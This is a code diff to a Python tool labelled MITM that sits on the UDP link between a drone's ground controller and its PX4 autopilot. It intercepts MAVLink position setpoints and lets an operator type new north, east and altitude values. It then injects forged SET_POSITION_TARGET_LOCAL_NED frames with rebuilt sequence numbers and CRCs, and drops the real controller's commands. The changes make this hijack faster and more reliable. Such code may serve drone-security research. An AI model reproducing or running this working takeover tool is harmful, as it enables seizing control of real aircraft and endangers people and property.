@@ -1,16 +1,19 @@
+import os
 import socket
+import struct
 import time
 import threading
-from select import select
+import selectors
 from pymavlink import mavutil
 from queue import Queue, Empty
 from fastapi import FastAPI
 from pydantic import BaseModel
 import uvicorn
 import logging
-import binascii
 import queue
 
+from backend.mmsg import RecvBatch
+
 
 # ==================== FastAPI 服务 ====================
 app = FastAPI()
@@ -52,6 +55,9 @@ PX4_PORT = 14556  # PX4 通信端口
 DEFAULT_INJECT_HZ = 10.0  # 默认注入频率（每秒注入次数）
 ALT_TTL = 0.2  # 数据包生存时间（TTL）
 
+# 设定点变化时是否打印整包 hex + 每个字段（MITM_DEEP_DEBUG=1 打开）
+DEEP_DEBUG = os.environ.get("MITM_DEEP_DEBUG") == "1"
+
 ml_ctrl = mavutil.mavlink.MAVLink(None)  # 创建 MAVLink 对象用于控制器
 ml_px4 = mavutil.mavlink.MAVLink(None)  # 创建 MAVLink 对象用于 PX4
 
@@ -68,6 +74,27 @@ s_b.setblocking(False)  # 绑定端口 14557 用于 PX4 数据
 # 将两个套接字添加到列表中，方便之后进行 I/O 操作
 sockets = [s_a, s_b]
 
+# 收发缓冲默认加到 12MB（系统默认 ~212KB），deep parse 打印 / 等用户输入时控制流不至于被内核丢掉。
+# 可以用环境变量 MITM_UDP_BUF_BYTES（字节）改大小，实际上限受 net.core.rmem_max / wmem_max 限制
+UDP_BUF_BYTES = int(os.environ.get("MITM_UDP_BUF_BYTES", 12 * 1024 * 1024))
+for sock in sockets:
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, UDP_BUF_BYTES)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, UDP_BUF_BYTES)
+
+# 所有转发共用一个发送套接字，不再每个包新建一个（非阻塞，发送缓冲满时直接丢包）
+tx_sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+tx_sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, UDP_BUF_BYTES)
+tx_sock.setblocking(False)
+
+# 每个监听套接字一组 recvmmsg 槽位：一次系统调用收一批，转发用 sendmmsg 一次发出
+RX_MMSG_BATCH = 32
+
+# epoll（Linux 上的 DefaultSelector）：注册一次，之后每轮不用重建 fd 集合；
+# 每个套接字的 RecvBatch 挂在 key.data 上
+sel = selectors.DefaultSelector()
+for sock in sockets:
+    sel.register(sock, selectors.EVENT_READ, RecvBatch(RX_MMSG_BATCH, 65535, with_addr=True))
+
 # state
 last_sig = None
 last_setpoint_time = 0.0
@@ -84,30 +111,51 @@ inject_template = None
 
 stop_event = threading.Event()
 
+# override 对话：relay 主循环只记下最新的设定点并置位事件，
+# 由 override_dialog_loop 线程去等用户输入，主循环不被阻塞
+pending_override_event = threading.Event()
+override_lock = threading.Lock()
+override_state = {"x": None, "y": None, "alt": None, "yaw": None}
+
 # 当前线程变量
 
-# input queue
+# input queue：数值输入给 override 对话线程，stop / quit 给主循环
 input_q = queue.Queue()
+control_q = queue.Queue()
+CONTROL_COMMANDS = ("stop", "quit")
 last_alt_print = 0.0
 
 
 def parse_datagram(data, parser):
+    """整个 datagram 一次交给 parser，取出其中所有消息；CRC 错等坏帧跳过，接着解析后面的"""
     msgs = []
-    for b in data:
+    chunk = data
+    # 出错 / 跳过坏前缀时 parser 至少消耗 1 字节；既没出消息也没消耗字节，说明只剩半帧，停
+    for _ in range(len(data) + 1):
+        pending = parser.buf_len() + len(chunk)
         try:
-            p = parser.parse_char(bytes([b]))
-        except TypeError:
-            try:
-                p = parser.parse_char(b)
-            except Exception:
-                p = None
+            p = parser.parse_char(chunk)
         except Exception:
             p = None
+        chunk = b""
         if p is not None:
             msgs.append(p)
+        elif parser.buf_len() == pending:
+            break
     return msgs
 
 
+def flush_forwards(batch, to_px4, to_ctrl):
+    """把 batch 里记下的包下标分别 sendmmsg 给 PX4 / 控制器，然后清空两个列表"""
+    for indices, dst in ((to_px4, (PX4_IP, PX4_PORT)), (to_ctrl, (CONTROLLER_IP, CONTROLLER_TELEM_PORT))):
+        if indices:
+            try:
+                batch.send_to(tx_sock, indices, dst)
+            except Exception:
+                pass
+            indices.clear()
+
+
 def msg_sig(m):
     try:
         t = m.get_type()
@@ -165,12 +213,80 @@ def update_control_signal(x, y, z):
     update_terminal_position(x, y, z)
 
 
+# 注入的 SET_POSITION_TARGET_LOCAL_NED 只用位置 + yaw
+SETPOINT_TYPE_MASK = (
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_VX_IGNORE |
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_VY_IGNORE |
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_VZ_IGNORE |
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_AX_IGNORE |
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_AY_IGNORE |
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_AZ_IGNORE |
+    mavutil.mavlink.POSITION_TARGET_TYPEMASK_YAW_RATE_IGNORE
+)
+
+_U32 = struct.Struct("<I")
+_CRC16 = struct.Struct("<H")
+
+
+class SetpointFrame:
+    """
+    接管期间除了 time_boot_ms 和 seq 之外都不变：整帧只打包一次，
+    每次发送前改这两个字段、重算 CRC。
+    time_boot_ms 在 payload 开头（按字段大小排序后排第一），
+    payload 末尾的 coordinate_frame 非 0，MAVLink2 不会截断 payload。
+    """
+
+    def __init__(self, mav, x, y, yaw, alt_m):
+        msg = mavutil.mavlink.MAVLink_set_position_target_local_ned_message(
+            0,
+            1, 1,
+            mavutil.mavlink.MAV_FRAME_LOCAL_NED,
+            SETPOINT_TYPE_MASK,
+            float(x if x is not None else 0.0),
+            float(y if y is not None else 0.0),
+            float(-alt_m),
+            0, 0, 0, 0, 0, 0,
+            float(yaw if yaw is not None else 0.0),
+            0.0
+        )
+        self.mav = mav
+        self.buf = bytearray(msg.pack(mav))
+        v2 = self.buf[0] == mavutil.mavlink.PROTOCOL_MARKER_V2
+        self.time_off = 10 if v2 else 6       # payload 起始 = time_boot_ms
+        self.seq_off = 4 if v2 else 2
+        self.crc_off = self.time_off + self.buf[1]
+        self.crc_extra = bytes([msg.crc_extra])
+
+    def next_frame(self, t_ms):
+        """填入 t_ms 和下一个 seq，返回可以直接发送的整帧"""
+        buf = self.buf
+        _U32.pack_into(buf, self.time_off, t_ms & 0xFFFFFFFF)
+        buf[self.seq_off] = self.mav.seq
+        self.mav.seq = (self.mav.seq + 1) % 256
+        crc = mavutil.mavlink.x25crc(buf[1:self.crc_off])
+        crc.accumulate(self.crc_extra)
+        _CRC16.pack_into(buf, self.crc_off, crc.crc)
+        return buf
+
+
+# 注入用的 udpout 连接：第一次接管时建立，之后每次接管复用（同一时刻只有一个 injector 线程）
+_inject_conn = None
+
+
+def get_inject_conn():
+    global _inject_conn
+    if _inject_conn is None:
+        _inject_conn = mavutil.mavlink_connection(f"udpout:{PX4_IP}:{PX4_PORT}", autoreconnect=True)
+    return _inject_conn
+
+
 def injector_loop(x, y, yaw, alt_m, hz):
     # 更新控制信号
     update_control_signal(x, y, alt_m)
 
-    tx = mavutil.mavlink_connection(f"udpout:{PX4_IP}:{PX4_PORT}", autoreconnect=True)
+    tx = get_inject_conn()
     period = 1.0 / max(0.1, hz)
+    frame = SetpointFrame(tx.mav, x, y, yaw, alt_m)
 
     try:
         while True:
@@ -184,27 +300,7 @@ def injector_loop(x, y, yaw, alt_m, hz):
 
             try:
                 t_ms = int((time.time() % 3600) * 1000)
-                mask = (
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_VX_IGNORE |
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_VY_IGNORE |
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_VZ_IGNORE |
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_AX_IGNORE |
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_AY_IGNORE |
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_AZ_IGNORE |
-                    mavutil.mavlink.POSITION_TARGET_TYPEMASK_YAW_RATE_IGNORE
-                )
-                tx.mav.set_position_target_local_ned_send(
-                    t_ms,
-                    1, 1,
-                    mavutil.mavlink.MAV_FRAME_LOCAL_NED,
-                    mask,
-                    float(x if x is not None else 0.0),
-                    float(y if y is not None else 0.0),
-                    float(-alt_m),
-                    0, 0, 0, 0, 0, 0,
-                    float(yaw if yaw is not None else 0.0),
-                    0.0
-                )
+                tx.write(frame.next_frame(t_ms))
             except Exception as e:
                 print("[INJ] send err", e)
 
@@ -216,7 +312,10 @@ def injector_loop(x, y, yaw, alt_m, hz):
 def stdin_reader():
     while True:
         cmd = input().strip()
-        input_q.put(cmd)  # 将用户输入放入队列
+        if cmd.lower() in CONTROL_COMMANDS:
+            control_q.put(cmd)  # stop / quit 直接交给主循环
+        else:
+            input_q.put(cmd)  # 将用户输入放入队列
 
 
 def get_user_input(prompt):
@@ -225,6 +324,69 @@ def get_user_input(prompt):
     return input_q.get()  # 从队列中获取输入
 
 
+def get_user_float(prompt, default):
+    """读一个数，空行或者不是数字都保持 default"""
+    text = get_user_input(prompt).strip()
+    if not text:
+        return default
+    try:
+        return float(text)
+    except ValueError:
+        print(f"[MITM] not a number: {text!r}, keep {default}")
+        return default
+
+
+def override_dialog_loop():
+    """
+    等主循环置位 pending_override_event，然后问用户要不要改 N / E / ALT：
+    改了就把注入参数换掉并重启 injector_loop，没改就继续转发原始数据。
+    问的过程中又来了新的设定点，问完这次再按最新的问一次。
+    """
+    global taking_over, inject_thread, inject_hz, inject_alt, inject_template
+
+    while True:
+        pending_override_event.wait()
+        with override_lock:
+            pending_override_event.clear()
+            x = override_state["x"]
+            y = override_state["y"]
+            alt = override_state["alt"]
+            yaw = override_state["yaw"]
+
+        # ========= 可篡改 x / y / alt =========
+        new_x = get_user_float("Enter new N (m) or blank to keep:", x)  # 获取 N 坐标
+        new_y = get_user_float("Enter new E (m) or blank to keep:", y)  # 获取 E 坐标
+        new_alt = get_user_float("Enter new ALT (m) or blank to keep:", alt)  # 获取 ALT
+
+        if new_x == x and new_y == y and new_alt == alt:
+            print("[MITM] No change, forwarding original data.")
+            continue
+
+        print(f"[MITM] Position changed: N={new_x} E={new_y} ALT={new_alt:.2f}")
+        inject_template = (new_x, new_y, yaw)
+        inject_alt = new_alt if new_alt is not None else alt
+        inject_hz = learned_hz if learned_hz is not None else DEFAULT_INJECT_HZ
+
+        with takeover_lock:
+            taking_over = True
+
+        if inject_thread and inject_thread.is_alive():
+            print("Stopping the previous thread...")
+            stop_event.set()  # 设置停止标志
+            inject_thread.join()  # 等待线程结束
+            stop_event.clear()  # 清除停止标志，准备启动新的线程
+
+        # 启动新线程
+        print("Starting a new thread...")
+        inject_thread = threading.Thread(
+            target=injector_loop,
+            args=(new_x, new_y, yaw, inject_alt, inject_hz),
+            daemon=True
+        )
+        inject_thread.start()
+        print(f"[MITM] takeover started: n={new_x} e={new_y} alt={inject_alt:.2f}m @ {inject_hz:.1f}Hz")
+
+
 # 启动 FastAPI 服务
 def start_fastapi():
     # 禁用 uvicorn 的日志输出
@@ -236,8 +398,10 @@ def start_fastapi():
 
 
 def deep_parse_datagram(datagram):
+    if not DEEP_DEBUG:
+        return
     print("\n=== DEEP PARSE (RAW HEX) ===")
-    print(binascii.hexlify(datagram).decode())  # 打印数据包的十六进制表示
+    print(datagram.hex())  # 打印数据包的十六进制表示
     msgs = parse_datagram(datagram, ml_ctrl)
     if not msgs:
         print("no high-level pymavlink messages parsed from datagram")
@@ -248,32 +412,20 @@ def deep_parse_datagram(datagram):
         except Exception:
             t = "<unknown>"
         print(f"\n[MESSAGE] type={t} id={getattr(m, 'msgid', None)}")
-        try:
-            names = list(m.get_fieldnames())
-        except Exception:
-            names = []
-        if names:
-            print("FIELDS:")
-            for n in names:
-                try:
-                    v = getattr(m, n)
-                except Exception:
-                    v = "<err>"
-                print(f"  {n}: {v}")
-        else:
-            for k, v in getattr(m, "__dict__", {}).items():
-                print(f"  {k}: {v}")
+        print("FIELDS:")
+        for k, v in m.to_dict().items():
+            print(f"  {k}: {v}")
         try:
             buf = m.get_msgbuf()
             print("RAW_MSGBUF_HEX:")
-            print(binascii.hexlify(buf).decode())
+            print(buf.hex())
         except Exception as e:
             print("cannot get raw msgbuf:", e)
 
 
 def main():
     global last_sig, last_setpoint_time, intervals, learned_hz
-    global taking_over, inject_thread, inject_hz, inject_alt, inject_template
+    global taking_over
     global CONTROLLER_IP, PX4_IP
 
     # 启动 FastAPI 服务
@@ -286,12 +438,13 @@ def main():
     print("Blank = keep original; 'stop' to stop takeover, 'quit' to exit.")
 
     threading.Thread(target=stdin_reader, daemon=True).start()
+    threading.Thread(target=override_dialog_loop, daemon=True).start()
 
     try:
         while True:
             try:
                 while True:
-                    cmd = input_q.get_nowait()
+                    cmd = control_q.get_nowait()
                     if cmd.lower() == "stop":
                         with takeover_lock:
                             taking_over = False
@@ -299,126 +452,94 @@ def main():
                     elif cmd.lower() == "quit":
                         print("\n[MITM] quitting.")
                         return
-                    else:
-                        input_q.queue.appendleft(cmd)
-                        break
             except Empty:
                 pass
 
-            r, _, _ = select(sockets, [], [], 0.1)
-            for s in r:
+            for key, _ in sel.select(0.1):
+                s, batch = key.fileobj, key.data
                 try:
-                    data, addr = s.recvfrom(65535)
+                    n = batch.recv(s)
                 except Exception:
                     continue
-                src = addr[0]
-
-                # ========== Controller -> MITM ========== (控制器数据处理)
-                if src == CONTROLLER_IP:
-                    msgs = parse_datagram(data, ml_ctrl)
-                    found = None
-                    for m in msgs[::-1]:
-                        if m.get_type() in ("SET_POSITION_TARGET_LOCAL_NED", "POSITION_TARGET_LOCAL_NED"):
-                            found = m
-                            break
-                    if found:
-                        sig = msg_sig(found)
-                        now = time.time()
-                        if last_setpoint_time > 0:
-                            intervals.append(now - last_setpoint_time)
-                            if len(intervals) > 40:
-                                intervals.pop(0)
-                            if len(intervals) >= 3:
-                                avg = sum(intervals) / len(intervals)
-                                if avg > 0:
-                                    learned_hz = 1.0 / avg
-                        last_setpoint_time = now
-
-                        if sig != last_sig:
-                            last_sig = sig
-                            deep_parse_datagram(data)
-							
-                            x = getattr(found, "x", None)
-                            y = getattr(found, "y", None)
-                            z = getattr(found, "z", None)
-                            yaw = getattr(found, "yaw", None)
-                            alt = None if z is None else -float(z)
-                            print(f"\n[CTRL] {found.get_type()} n={x} e={y} alt={alt} m yaw={yaw} ")
-
-                            # ========= 可篡改 x / y / alt =========
-                            new_x_str = get_user_input("Enter new N (m) or blank to keep:").strip()  # 获取 N 坐标
-                            new_x = float(new_x_str) if new_x_str else x  # 如果没有输入值，保持原值
-                            
-                            new_y_str = get_user_input("Enter new E (m) or blank to keep:").strip()  # 获取 E 坐标
-                            new_y = float(new_y_str) if new_y_str else y  # 如果没有输入值，保持原值
-                            
-                            new_alt_str = get_user_input("Enter new ALT (m) or blank to keep:").strip()  # 获取 ALT
-                            new_alt = float(new_alt_str) if new_alt_str else alt  # 如果没有输入值，保持原值
-							
-                            changed = False
-                            if new_x != x or new_y != y or new_alt != alt:
-                                changed = True
-
-                            if changed:
-                                print(f"[MITM] Position changed: N={new_x} E={new_y} ALT={new_alt:.2f}")
-                                inject_template = (new_x, new_y, yaw)
-                                inject_alt = new_alt if new_alt is not None else alt
-                                inject_hz = learned_hz if learned_hz is not None else DEFAULT_INJECT_HZ
-								
-                                with takeover_lock:
-                                    taking_over = True
-                                
-                                if inject_thread and inject_thread.is_alive():
-                                    print("Stopping the previous thread...")
-                                    stop_event.set()  # 设置停止标志
-                                    inject_thread.join()  # 等待线程结束
-                                    stop_event.clear()  # 清除停止标志，准备启动新的线程
-
-                                # 启动新线程
-                                print("Starting a new thread...")
-                                inject_thread = threading.Thread(
-                                    target=injector_loop,
-                                    args=(new_x, new_y, yaw, inject_alt, inject_hz),
-                                    daemon=True
-                                )
-                                inject_thread.start()
-                                print(f"[MITM] takeover started: n={new_x} e={new_y} alt={inject_alt:.2f}m @ {inject_hz:.1f}Hz")
-                            else:
-                                print("[MITM] No change, forwarding original data.")
-                                try:
-                                    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (PX4_IP, PX4_PORT))
-                                except Exception:
-                                    pass
-                        else:
-                            with takeover_lock:
-                                if not taking_over:
-                                    try:
-                                        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (PX4_IP, PX4_PORT))
-                                    except Exception:
-                                        pass
+                to_px4 = []   # 本批要转给 PX4 的包下标
+                to_ctrl = []  # 本批要转给控制器的包下标
+
+                # 第一遍只按来源 IP 决定转发并立刻 sendmmsg 出去，MAVLink 解析放到第二遍，
+                # 解析 / 打印的耗时不再加到转发延迟上。
+                # 接管中控制器的设定点要丢掉，是否转发得等解析完再定
+                with takeover_lock:
+                    passthrough = not taking_over
+                srcs = [batch.src_ip(i) for i in range(n)]
+                for i, src in enumerate(srcs):
+                    if src == CONTROLLER_IP:
+                        if passthrough:
+                            to_px4.append(i)
+                    elif src == PX4_IP:
+                        to_ctrl.append(i)
                     else:
-                        try:
-                            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (PX4_IP, PX4_PORT))
-                        except Exception:
-                            pass
-
-                # ========== PX4 -> MITM ========== (PX4 数据处理)
-                elif src == PX4_IP:
-                    try:
-                        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (CONTROLLER_IP, CONTROLLER_TELEM_PORT))
-                    except Exception:
-                        pass
-                    msgs = parse_datagram(data, ml_px4)
-                    for m in msgs:
-                        telemetry_handle(m)
-
-                # ========== other ========== (其他数据处理)
-                else:
-                    try:
-                        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (PX4_IP, PX4_PORT))
-                        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, (CONTROLLER_IP, CONTROLLER_TELEM_PORT))
-                    except Exception:
-                        pass
+                        to_px4.append(i)
+                        to_ctrl.append(i)
+                flush_forwards(batch, to_px4, to_ctrl)
+
+                for i, src in enumerate(srcs):
+                    data = batch.frame(i)
+
+                    # ========== Controller -> MITM ========== (控制器数据处理)
+                    if src == CONTROLLER_IP:
+                        msgs = parse_datagram(data, ml_ctrl)
+                        found = None
+                        for m in reversed(msgs):
+                            if m.get_type() in ("SET_POSITION_TARGET_LOCAL_NED", "POSITION_TARGET_LOCAL_NED"):
+                                found = m
+                                break
+                        if found:
+                            sig = msg_sig(found)
+                            now = time.time()
+                            if last_setpoint_time > 0:
+                                intervals.append(now - last_setpoint_time)
+                                if len(intervals) > 40:
+                                    intervals.pop(0)
+                                if len(intervals) >= 3:
+                                    avg = sum(intervals) / len(intervals)
+                                    if avg > 0:
+                                        learned_hz = 1.0 / avg
+                            last_setpoint_time = now
+
+                            if sig != last_sig:
+                                last_sig = sig
+                                deep_parse_datagram(data)
+
+                                x = getattr(found, "x", None)
+                                y = getattr(found, "y", None)
+                                z = getattr(found, "z", None)
+                                yaw = getattr(found, "yaw", None)
+                                alt = None if z is None else -float(z)
+                                print(f"\n[CTRL] {found.get_type()} n={x} e={y} alt={alt} m yaw={yaw} ")
+
+                                # 交给 override_dialog_loop 去问用户，这里不等输入，原始数据照常转发
+                                # set() 和对话线程里的 clear() 一样放在锁里，避免同一个设定点弹两次
+                                with override_lock:
+                                    override_state.update(x=x, y=y, alt=alt, yaw=yaw)
+                                    pending_override_event.set()
+
+                            if not passthrough:
+                                with takeover_lock:
+                                    if not taking_over:
+                                        to_px4.append(i)
+                        elif not passthrough:
+                            to_px4.append(i)
+
+                    # ========== PX4 -> MITM ========== (PX4 数据处理)
+                    elif src == PX4_IP:
+                        # telemetry_handle 每 ALT_TTL 才打印一次，没到时间解析了也是白解析
+                        if (time.time() - last_alt_print) < ALT_TTL:
+                            continue
+                        msgs = parse_datagram(data, ml_px4)
+                        for m in msgs:
+                            telemetry_handle(m)
+
+                # 接管中第一遍留下的控制器包（非设定点、或接管刚结束）
+                flush_forwards(batch, to_px4, to_ctrl)
 
     except KeyboardInterrupt:
         print("\n[MITM] exiting")